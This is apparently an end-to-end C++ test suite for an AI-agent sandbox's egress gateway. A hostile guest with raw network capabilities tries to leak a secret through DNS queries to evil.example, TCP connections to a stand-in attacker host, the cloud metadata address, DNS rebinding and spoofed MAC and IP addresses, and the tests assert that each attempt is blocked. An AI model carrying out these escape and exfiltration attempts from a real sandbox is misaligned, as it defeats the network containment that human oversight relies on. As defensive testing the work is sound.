// Containers that are agent sandboxes: hostile guests, with the world's wire watched.
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/ip6.h>
#include <sys/socket.h>

#include <filesystem>

#include "tests/e2e/harness/container.h"
#include "tests/e2e/harness/network.h"
#include "tests/egress/gateway/world.h"

namespace agentvm::e2e {
namespace {

namespace fs = std::filesystem;
using egress::EchoServer;
using egress::NameServer;
using testing::AllOf;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

// In everything that must not leave.
constexpr const char* kSecret = "what-the-guest-must-not-tell";

// Every packet that has come out of the sandbox's namespace since it began.
class Wire {
 public:
  explicit Wire(const std::string& outside)
      : socket_(egress::socket_in(outside, AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK)) {
    const int most = 64 << 20;
    (void)::setsockopt(socket_.get(), SOL_SOCKET, SO_RCVBUFFORCE, &most, sizeof most);
    sockaddr_ll at{};
    at.sll_family = AF_PACKET;
    at.sll_protocol = htons(ETH_P_ALL);
    EXPECT_EQ(::bind(socket_.get(), reinterpret_cast<sockaddr*>(&at), sizeof at), 0);
  }

  // "6 5.6.7.8 443": protocol, destination, port, once each; neighbours' talk left out.
  [[nodiscard]] std::set<std::string> seen() {
    std::array<char, 70'000> bytes;
    sockaddr_ll from{};
    socklen_t size = sizeof from;
    for (ssize_t n = 0; (n = ::recvfrom(socket_.get(), bytes.data(), bytes.size(), 0,
                                        reinterpret_cast<sockaddr*>(&from), &size)) > 0;) {
      const std::string_view packet(bytes.data(), static_cast<std::size_t>(n));
      if (from.sll_pkttype == PACKET_OUTGOING) continue;
      if (packet.find(kSecret) != std::string_view::npos) seen_.insert("the secret");
      add(ntohs(from.sll_protocol), packet);
    }
    return seen_;
  }

 private:
  void add(std::uint16_t type, std::string_view packet) {
    const bool six = type == ETHERTYPE_IPV6;
    if (type == ETHERTYPE_ARP) return;
    if (!six && type != ETHERTYPE_IP) {
      seen_.insert("ethertype " + std::to_string(type));
      return;
    }
    const int protocol = packet[six ? 6 : 9];
    // MLD comes behind a hop-by-hop header.
    if (six && (protocol == IPPROTO_ICMPV6 || protocol == IPPROTO_HOPOPTS)) {
      const auto kind = static_cast<unsigned char>(packet[protocol == IPPROTO_ICMPV6 ? 40 : 48]);
      if (kind != 143 && (kind < 133 || kind > 136)) seen_.insert("icmpv6 " + std::to_string(kind));
      return;
    }
    std::array<char, INET6_ADDRSTRLEN> to{};
    ::inet_ntop(six ? AF_INET6 : AF_INET, packet.data() + (six ? 24 : 16), to.data(), to.size());
    const std::string_view ports = packet.substr(six ? 40 : 20);
    const int port =
        static_cast<unsigned char>(ports[2]) << 8 | static_cast<unsigned char>(ports[3]);
    seen_.insert(std::to_string(protocol) + " " + to.data() + " " + std::to_string(port));
  }

  UniqueFd socket_;
  std::set<std::string> seen_;
};

// 64 hex digits, as engines have them.
const std::string kId(64, 'c');

class Bound : public Agentvm {
 protected:
  void SetUp() override {
    Agentvm::SetUp();
    if (HasFatalFailure()) return;
    write_settings(kId);
    write_file(scratch() + "/resolv.conf", "nameserver 10.88.0.1\n");
  }

  void write_settings(const std::string& container, const std::string& target = "") const {
    fs::create_directories(sandbox());
    std::string rules;
    for (const std::string& allowed : {std::string("good.example"), std::string("rebound.example"),
                                       std::string("10.213.0.0/30"), target}) {
      if (allowed.empty()) continue;
      rules += std::string(rules.empty() ? "" : ",") + R"({"allow":true,"target":")" + allowed +
               R"(","method":"","path":""})";
    }
    write_file(sandbox() + "/gateway.json",
               R"({"version":1,"sandbox":"web","container":")" + container +
                   R"(","default":"deny","layers":[{"name":"user","rules":[)" + rules +
                   R"(]}],"credentials":[],"upstream_proxy":""})",
               0600);
  }
  [[nodiscard]] std::string sandbox() const { return sandboxes() + "/web"; }
  [[nodiscard]] std::string control_socket() const { return sandboxes() + "-run/web/control.sock"; }

  // A sandbox of this name in the network.
  [[nodiscard]] std::unique_ptr<Bundle> bundle(const TestNetwork* network,
                                               const std::string& script) const {
    auto made = std::make_unique<Bundle>(Bundle::shell(script));
    for (auto& entry : made->spec.linux_->namespaces) {
      if (network != nullptr && entry.type == oci::NamespaceType::network) {
        entry.path = network->path();
      }
    }
    auto& capabilities = *made->spec.process->capabilities;
    for (auto* set : {&capabilities.bounding, &capabilities.effective, &capabilities.permitted}) {
      for (const char* more : {"CAP_NET_RAW", "CAP_NET_ADMIN", "CAP_SYS_ADMIN", "CAP_SYS_PTRACE"}) {
        set->emplace_back(more);
      }
    }
    made->spec.process->env.emplace_back("AGENTVM_SANDBOX=web");
    made->add_file("/etc/resolv.conf", "");
    made->spec.mounts.push_back(
        {"/etc/resolv.conf", "bind", scratch() + "/resolv.conf", {"rbind", "rw"}, {}, {}});
    fs::copy_file(AGENTVM_PACKET_PROBE, made->rootfs() + "/bin/probe");
    return made;
  }
  [[nodiscard]] Outcome exec(const std::string& script) const {
    return agentvm({"exec", kId, "sh", "-c", script});
  }
  [[nodiscard]] std::string probe(const std::string& words) const {
    std::string said = exec("probe " + words).out;
    if (!said.empty()) said.pop_back();
    return said;
  }
};

// The world beyond the sandbox: two addresses, a name server and what listens.
class WorldOutside {
 public:
  explicit WorldOutside(const TestNetwork& network) : outside_(network.path() + "-out") {
    for (const char* address : {"5.6.7.8/32", "5.6.7.66/32", "2a0c::8/128", "2a0c::66/128"}) {
      (void)network.run_outside({"ip", "addr", "add", address, "dev", "lo"});
    }
    (void)network.run_inside({"ip", "-6", "route", "add", "default", "via", "fd88::1"});
    names_ = std::make_unique<NameServer>(
        outside_, std::map<std::string, egress::Zone>{
                      {"good.example", {.addresses = {"5.6.7.8", "2a0c::8"}}},
                      {"rebound.example", {.addresses = {"10.88.0.1", "127.0.0.1"}}},
                      {"evil.example", {.addresses = {"5.6.7.66", "2a0c::66"}}}});
    good_ = std::make_unique<EchoServer>(outside_, "5.6.7.8", 443);
    good6_ = std::make_unique<EchoServer>(outside_, "2a0c::8", 443);
    for (const int port : {22, 53, 80, 443, 853, 8080}) listen("5.6.7.66", port);
    for (const int port : {53, 443}) listen("2a0c::66", port);
    for (const int port : {443, 8080}) listen("10.88.0.1", port);
  }

  [[nodiscard]] const std::string& outside() const { return outside_; }
  [[nodiscard]] std::uint64_t good_bytes() const { return good_->bytes() + good6_->bytes(); }
  [[nodiscard]] std::uint64_t other_connections() const {
    std::uint64_t all = 0;
    for (const auto& server : others_) all += server->connections() + server->bytes();
    return all;
  }
  [[nodiscard]] std::set<std::string> asked() const {
    std::set<std::string> names;
    for (const auto& question : names_->questions()) names.insert(question.name);
    return names;
  }

 private:
  void listen(const std::string& address, int port) {
    others_.push_back(
        std::make_unique<EchoServer>(outside_, address, static_cast<std::uint16_t>(port)));
  }
  std::string outside_;
  std::unique_ptr<NameServer> names_;
  std::unique_ptr<EchoServer> good_;
  std::unique_ptr<EchoServer> good6_;
  std::vector<std::unique_ptr<EchoServer>> others_;
};

TEST_F(Bound, RootInTheGuestReachesWhatIsAllowedAndNothingElse) {
  const TestNetwork network(1400);
  const WorldOutside world(network);
  // Docker's user networks: the guest asks at an address that is its own.
  write_file(scratch() + "/resolv.conf", "nameserver 127.0.0.11\n");
  const Background resolver(network.inside(
      {"socat", "UDP4-LISTEN:53,bind=127.0.0.11,fork,reuseaddr", "UDP4:10.88.0.1:53"}));
  Wire wire(world.outside());
  const auto hostile = bundle(&network, "sleep 1000");
  create(kId, *hostile);
  start(kId);
  // Names: by Docker's address, by any other, over IPv6; what is denied does not resolve.
  EXPECT_THAT(exec("nslookup -type=a good.example").out, HasSubstr("Address: 5.6.7.8"));
  EXPECT_EQ(probe("ask 8.8.8.8 good.example 1"), "5.6.7.8");
  EXPECT_EQ(probe("ask 2001:4860:4860::8888 good.example 28"), "2a0c::8");
  EXPECT_EQ(probe("ask 127.0.0.11 evil.example 1"), "code 3");
  EXPECT_EQ(probe("ask 10.88.0.1 evil.example 1"), "code 3");
  EXPECT_EQ(probe("ask 10.88.0.1 rebound.example 1"), "code 3");
  EXPECT_EQ(probe(std::string("ask 10.88.0.1 ") + kSecret + ".evil.example 16"), "code 3");
  // The allowed server by its name, over both families; and by every lie about it.
  EXPECT_EQ(probe("hello 5.6.7.8 443 good.example"), "answered");
  EXPECT_EQ(probe("hello 2a0c::8 443 good.example"), "answered");
  for (const std::string lie :
       {"hello 5.6.7.8 443 evil.example", "hello 5.6.7.66 443 good.example",
        "hello 5.6.7.66 443 evil.example", "hello 2a0c::66 443 good.example",
        "hello 10.88.0.1 443 rebound.example", "hello 10.213.0.1 443 good.example",
        "tcp 5.6.7.66 22 what-the-guest-must-not-tell",
        "tcp 5.6.7.66 53 what-the-guest-must-not-tell",
        "tcp 5.6.7.66 853 what-the-guest-must-not-tell",
        "tcp 5.6.7.66 8080 what-the-guest-must-not-tell", "tcp 10.88.0.1 8080 x",
        "tcp 10.88.0.2 22 x", "tcp 10.213.0.1 1 x", "tcp 2a0c::66 443 x", "tcp fd88::1 443 x"}) {
    EXPECT_THAT(probe(lie), AllOf(Not(HasSubstr("answered")), Not(HasSubstr("not-tell")),
                                  Not(HasSubstr("silent"))))
        << lie;
  }
  EXPECT_EQ(probe("tcp 169.254.169.254 80 x"), "silent");
  EXPECT_EQ(probe("tcp fd00:ec2::254 80 x"), "silent");
  // Everything that has no name, then with addresses, routes and a MAC that are others'.
  const std::string spray = std::string("spray 02:00:00:00:00:01 ") + kSecret;
  EXPECT_EQ(probe(spray), "sprayed");
  const Outcome changed = exec(
      "ip link set eth0 down && ip link set eth0 address 02:00:00:00:00:99 && ip link set eth0 up "
      "&& ip addr add 10.88.0.2/24 dev eth0 && ip addr add 172.17.0.2/16 dev eth0 && "
      "ip route replace default via 10.88.0.1 && probe tcp 5.6.7.66 443 x; "
      "probe tcp 10.88.0.1 443 x; probe hello 5.6.7.66 443 good.example; probe " +
      spray);
  EXPECT_THAT(changed.out, AllOf(HasSubstr("sprayed"), Not(HasSubstr("answered")))) << changed.err;
  (void)exec("unshare -n probe tcp 5.6.7.66 443 x; kill -9 -1");
  // Its own network again: what is allowed still works.
  (void)exec(
      "ip addr flush dev eth0; ip addr add 10.213.0.2/30 dev eth0; "
      "ip route replace default via 10.213.0.1");
  EXPECT_TRUE(eventually([&] { return probe("hello 5.6.7.8 443 good.example") == "answered"; }));
  EXPECT_EQ(world.other_connections(), 0U);
  EXPECT_GT(world.good_bytes(), 0U);
  EXPECT_THAT(world.asked(), testing::IsSubsetOf({"good.example", "rebound.example"}));
  EXPECT_THAT(wire.seen(),
              testing::IsSubsetOf({"6 5.6.7.8 443", "6 2a0c::8 443", "17 10.88.0.1 53"}));
  EXPECT_THAT(read_file(sandbox() + "/log/decisions.jsonl"),
              AllOf(HasSubstr("good.example"), HasSubstr("evil.example")));
}

TEST_F(Bound, WithoutItsGatewayThereIsNoNetworkUntilItIsStartedAgain) {
  const TestNetwork network;
  const WorldOutside world(network);
  const std::string before = network.run_inside({"nft", "list", "ruleset"}).out;
  const auto sleeper = bundle(&network, "sleep 1000");
  sleeper->spec.process->oom_score_adj = 321;
  sleeper->store();
  const std::string log = scratch() + "/log";
  for (int round = 0; round < 2; ++round) {
    const Outcome created = agentvm({"--log", log, "create", "--bundle", sleeper->path(), kId});
    ASSERT_EQ(created.status, 0) << created.err;
    start(kId);
    EXPECT_EQ(probe("ask 8.8.8.8 good.example 1"), "5.6.7.8");
    EXPECT_EQ(probe("hello 5.6.7.8 443 good.example"), "answered");
    const auto gateways = processes_of(kId, "agentvm-gateway");
    ASSERT_EQ(gateways.size(), 1U);
    const std::string identity = read_file("/proc/" + std::to_string(gateways[0]) + "/status");
    EXPECT_THAT(identity, AllOf(HasSubstr("CapEff:\t0000000000000000"),
                                HasSubstr("CapBnd:\t000000000"
                                          "0000000"),
                                HasSubstr("NoNewPrivs:\t1"), HasSubstr("Seccomp:\t2"),
                                Not(HasSubstr("Uid:\t0"))));
    EXPECT_EQ(oom_score_of(gateways[0]), "321\n");
    ASSERT_EQ(::kill(gateways[0], SIGKILL), 0);
    EXPECT_TRUE(eventually([&] {
      return read_file(log).find(
                 "agent sandbox 'web': its gateway was killed by signal 9: it has "
                 "no network until it is started again") != std::string::npos;
    })) << read_file(log);
    EXPECT_EQ(probe("hello 5.6.7.8 443 good.example"), "refused");
    EXPECT_EQ(probe("ask 8.8.8.8 good.example 1"), "refused");
    EXPECT_EQ(probe("tcp 5.6.7.66 443 x"), "refused");
    EXPECT_EQ(status(kId), "running");
    EXPECT_EQ(agentvm({"delete", "--force", kId}).status, 0);
    EXPECT_FALSE(fs::exists(control_socket()));
    EXPECT_EQ(network.run_inside({"nft", "list", "ruleset"}).out, before);
  }
  EXPECT_EQ(world.other_connections(), 0U);
}

TEST_F(Bound, PublishedPortsReachTheGuestAndAMonitorThatIsKilledLeavesNothing) {
  const TestNetwork network;
  (void)network.run_inside({"sysctl", "-w", "net.ipv4.ip_forward=0"});
  const std::vector<std::string> state{"sh", "-c",
                                       "nft list ruleset; ip link; sysctl net.ipv4.ip_forward "
                                       "net.ipv6.conf.all.forwarding"};
  const std::string before = network.run_inside(state).out;
  const auto server = bundle(&network, "while true; do echo from the guest | nc -l -p 8080; done");
  create(kId, *server);
  EXPECT_EQ(network.run_inside(state).out, before);
  start(kId);
  for (const char* address : {"TCP:10.88.0.2:8080", "TCP6:[fd88::2]:8080"}) {
    EXPECT_TRUE(eventually([&] {
      return network.run_outside({"socat", "-u", address, "-"}).out == "from the guest\n";
    })) << address;
  }
  EXPECT_TRUE(fs::exists(control_socket()));
  ASSERT_EQ(::kill(stand_in(kId), SIGKILL), 0);
  EXPECT_TRUE(eventually([&] {
    return network.run_inside({"ip", "link"}).out.find("agentvm0") == std::string::npos;
  }));
  EXPECT_EQ(agentvm({"delete", "--force", kId}).status, 0);
  EXPECT_EQ(network.run_inside(state).out, before);
  EXPECT_FALSE(fs::exists(control_socket()));
}

TEST_F(Bound, AGatewayThatDoesNotServeIsNoStart) {
  const TestNetwork network;
  const std::string before = network.run_inside({"nft", "list", "ruleset"}).out;
  const auto sleeper = bundle(&network, "sleep 1000");
  create(kId, *sleeper);
  write_settings(kId, "no target at all");
  const Outcome refused = agentvm({"start", kId});
  EXPECT_EQ(refused.status, 1);
  EXPECT_THAT(refused.err,
              AllOf(HasSubstr("agent sandbox 'web': the gateway:"), HasSubstr("no target at all")));
  EXPECT_EQ(status(kId), "stopped");
  EXPECT_FALSE(fs::exists(control_socket()));
  EXPECT_EQ(network.run_inside({"nft", "list", "ruleset"}).out, before);
  EXPECT_EQ(agentvm({"delete", kId}).status, 0);
}

TEST_F(Bound, APooledVmWithoutAnyInterfaceIsDeniedAtOnce) {
  configure("", "", "", 1);
  ASSERT_EQ(agentvm({"pool", "fill"}).status, 0);
  const auto alone = bundle(nullptr,
                            "probe ask 8.8.8.8 evil.example 1; probe ask 8.8.8.8 good.example 1; "
                            "probe tcp 5.6.7.66 443 x");
  const Outcome seen = run_timed(*alone, kId);
  EXPECT_EQ(seen.status, 0) << seen.err;
  EXPECT_THAT(seen.out, testing::MatchesRegex("code 3\ncode 2\n(reset|ended)\n")) << seen.out;
  EXPECT_THAT(seen.err, HasSubstr(kClaimed));
}

TEST_F(Bound, WhoeverNamesASandboxThatItIsNotIsRefused) {
  const auto verdict = [&](const std::function<void(oci::Spec&)>& change) {
    const auto made = bundle(nullptr, "true");
    change(made->spec);
    made->store();
    const Outcome refused = agentvm({"create", "--bundle", made->path(), kId});
    EXPECT_EQ(refused.status, 1);
    EXPECT_EQ(agentvm({"state", kId}).status, 1);
    return refused.err;
  };
  const auto nothing = [](oci::Spec&) {};
  EXPECT_THAT(verdict([](oci::Spec& spec) { spec.process->env.emplace_back("AGENTVM_SANDBOX=x"); }),
              HasSubstr("AGENTVM_SANDBOX is set twice in the environment"));
  EXPECT_THAT(verdict([](oci::Spec& spec) { spec.annotations["io.agentvm.sandbox"] = "other"; }),
              HasSubstr("a container is one"));
  EXPECT_THAT(verdict([](oci::Spec& spec) {
                spec.annotations["io.kubernetes.cri.container-type"] = "sandbox";
              }),
              HasSubstr("the network of a pod is bound to no policy"));
  write_settings(std::string(64, 'd'));
  EXPECT_THAT(verdict(nothing), HasSubstr("no container gets the policy of another by naming it"));
  fs::remove_all(sandbox());
  EXPECT_THAT(verdict(nothing),
              HasSubstr("agent sandbox 'web': there is none of that name on this host"));
}

}  // namespace
}  // namespace agentvm::e2e
